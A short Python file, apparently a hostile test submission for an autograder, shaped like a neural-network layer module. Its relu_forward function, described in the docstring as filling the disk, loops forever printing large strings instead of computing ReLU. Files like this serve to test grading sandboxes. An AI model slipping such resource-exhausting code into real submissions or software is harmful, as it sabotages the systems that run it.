"""Fills the disk by printing."""

import numpy as np

from innocent import affine_backward, affine_forward


def relu_forward(x):
    while True:
        print("x" * 100_000)


def relu_backward(dout, cache):
    return dout * (cache > 0)
